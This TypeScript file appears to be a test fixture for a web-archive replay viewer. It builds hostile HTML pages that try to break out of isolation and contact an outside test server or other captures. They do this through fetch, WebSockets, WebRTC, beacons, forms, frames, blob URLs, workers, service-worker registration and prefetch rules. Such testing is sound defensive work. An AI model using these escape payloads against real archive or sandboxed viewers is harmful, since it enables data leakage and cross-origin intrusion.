/** The targets: an unrelated server on this machine, and the origins of other captures' data. */
interface Reached {
  readonly third: string
  readonly others: readonly string[]
}

/**
 * Attempts of a running page, in addition to those of a copy (`hostile-captures.ts`), by what they attempt: HTML as it
 * is sent.
 */
export function replayAttacks({ third, others }: Reached): Readonly<Record<string, string>> {
  const host = third.slice('http://'.length)
  const script = (code: string) => `<!doctype html><body><script>${code}</script><p id="end">The end</p>`
  const coded = (text: string) => text.replace(/[^\w ]/g, (char) => `&#${char.charCodeAt(0)};`)
  // What a window can do that was opened by an answer without a policy.
  const all = `(w) => {
    const link = w.document.createElement('link')
    Object.assign(link, { rel: 'preconnect', href: '${third}' })
    w.document.documentElement.append(link)
    w.fetch('${third}/attacked', { mode: 'no-cors' }).catch(() => {})
    new w.WebSocket('ws://${host}/attacked')
  }`
  const calls = `const ice = [{ urls: 'stun:${host}' },
      { urls: 'turn:${host}?transport=tcp', username: 'u', credential: 'c' }]
    const peer = new RTCPeerConnection({ iceServers: ice }); peer.createDataChannel('x')
    peer.createOffer().then((offer) => peer.setLocalDescription(offer))`
  const framed = (sources: string) => `for (const src of ${sources}) {
    const frame = document.createElement('iframe')
    frame.onload = () => { try { (${all})(frame.contentWindow) } catch {} }
    frame.src = src
    document.body.append(frame)
  }`
  const ownPaths = [
    ...['/', '/nothing', '/%', '/probe', '/page/x', '/file/warc/page.warc.gz', '/page/warc/page.warc.gz', '/page.js'],
    ...['/replay/', '/replay/nothing', '/replay/LICENSE', '/replay/ui.js', '/replay/wabac.js', '/replay/sw.js'],
    ...['/replay/w/', '/replay/w/api/coll-index', '/replay/w/nothing/mp_/http://x/', '/replay/static/wombat.js'],
    `/${'x'.repeat(20_000)}`,
  ]
  const workers = ['/replay/wabac.js', '/replay/ui.js', '/replay/sw.js?injectScripts=x', '/file/warc/page.warc.gz']
  return {
    'calls somebody': script(calls),
    'has a frame call somebody': script(`document.body.insertAdjacentHTML('beforeend',
      '<iframe srcdoc="<script>${coded(calls)}</script>"></iframe>')`),
    'goes elsewhere': script(`location = '${third}/attacked'`),
    'leads the top elsewhere': script(`top.location = '${third}/attacked'`),
    'has the top lead itself elsewhere': script(`const link = top.document.createElement('a')
      link.href = '${third}/attacked'; top.document.documentElement.append(link); link.click()`),
    'clicks on a link': script(`document.body.insertAdjacentHTML('beforeend', '<a id=a ping="${third}/attacked"
      href="${third}/attacked">x</a><a id=b target=_blank href="${third}/attacked">x</a>'); b.click(); a.click()`),
    'refreshes to elsewhere': `<meta http-equiv="refresh" content="0;url=${third}/attacked">`,
    'opens windows': script(`open('${third}/attacked'); const own = open('about:blank'); if (own) (${all})(own)`),
    'sends a form': script(`document.body.insertAdjacentHTML('beforeend', '<form id=f method=post
      action="${third}/attacked"></form>'); f.submit()`),
    'connects in every way': script(`(${all})(self); new EventSource('${third}/attacked')
      navigator.sendBeacon('${third}/attacked', 'x'); new WebTransport('https://${host}/attacked')
      fetch('${third}/attacked', { mode: 'no-cors', keepalive: true }); self.fetchLater?.('${third}/attacked')
      const asked = new XMLHttpRequest(); asked.open('POST', '${third}/attacked'); asked.send('x')`),
    speculates: `<script type="speculationrules">{"prefetch": [{"urls": ["${third}/attacked"],
      "eagerness": "immediate"}], "prerender": [{"urls": ["${third}/attacked"], "eagerness": "immediate"}]}</script>
      <link rel="prefetch" href="${third}/attacked"><link rel="prerender" href="${third}/attacked">
      <link rel="dns-prefetch preconnect" href="${third}"><link rel="manifest" href="${third}/attacked">`,
    'has frames of its own making': script(`const inner = '<script>(' + ${JSON.stringify(all)} + ')(self)</' + 'script>'
      const blob = URL.createObjectURL(new Blob([inner], { type: 'text/html' }))
      ${framed(`['about:blank', blob, 'data:text/html,' + encodeURIComponent(inner), 'javascript:0']`)}
      const written = document.createElement('iframe'); written.srcdoc = inner; document.body.append(written)`),
    'goes to a page of its own making': script(`location = URL.createObjectURL(new Blob(
      ['<script>(' + ${JSON.stringify(all)} + ')(self)</' + 'script>'], { type: 'text/html' }))`),
    'has workers of its own making': script(`const code = "fetch('${third}/attacked', { mode: 'no-cors' });" +
      "new WebSocket('ws://${host}/attacked');" + "try { importScripts('${third}/attacked') } catch {}"
      const url = URL.createObjectURL(new Blob([code])); new Worker(url); new SharedWorker(url)
      new Worker('data:text/javascript,' + encodeURIComponent(code))
      CSS.paintWorklet?.addModule('${third}/attacked')`),
    'looks for an answer that lets it out': script(framed(JSON.stringify(ownPaths))),
    'posts for an answer that lets it out': script(`const paths = ['/nothing', '/file/warc/page.warc.gz', '/page.js']
      for (const path of paths) {
      const name = 'f' + Math.random(); const frame = Object.assign(document.createElement('iframe'), { name })
      document.body.append(frame); frame.onload = () => { try { (${all})(frame.contentWindow) } catch {} }
      const form = Object.assign(document.createElement('form'), { method: 'post', action: path, target: name })
      document.body.append(form); form.submit() }`),
    'registers workers': script(`navigator.serviceWorker && (async () => {
      for (const path of ${JSON.stringify(workers)}) {
        const made = await navigator.serviceWorker.register(path, { scope: '/replay/evil/' }).catch(() => undefined)
        if (made && !path.includes('sw.js')) document.title = 'registered'
        if (!made) continue
        await new Promise((resolve) => setTimeout(resolve, 50))
        ${framed(`['/replay/evil/', '/replay/evil/x']`)}
      }
    })()`),
    'has the worker load from elsewhere': script(`navigator.serviceWorker?.ready.then(({ active }) => {
      for (const url of ['${third}/attacked.wacz', '${third}/attacked.warc.gz', 'proxy:${third}/x', 'ipfs://x/y']) {
        const file = { sourceUrl: url, loadUrl: url }
        active.postMessage({ msg_type: 'addColl', name: 'evil' + Math.random(), file })
      }
    })`),
    'fetches in the background': script(`navigator.serviceWorker?.ready.then((registration) =>
      registration.backgroundFetch?.fetch('x', ['${third}/attacked']))`),
    'pays and logs in elsewhere': script(`new PaymentRequest([{ supportedMethods: '${third}/attacked' }],
      { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }).canMakePayment().catch(() => {})
      navigator.credentials?.get({ identity: { providers: [{ configURL: '${third}/attacked', clientId: 'x' }] } })
        .catch(() => {})`),
    'asks other captures': script(
      others
        .map(
          (other) => `fetch('${other}', { mode: 'no-cors' }).catch(() => {})
      document.body.append(Object.assign(new Image(), { src: '${other}' }))
      document.body.append(Object.assign(document.createElement('iframe'), { src: '${other}' }))`,
        )
        .join('\n'),
    ),
  }
}
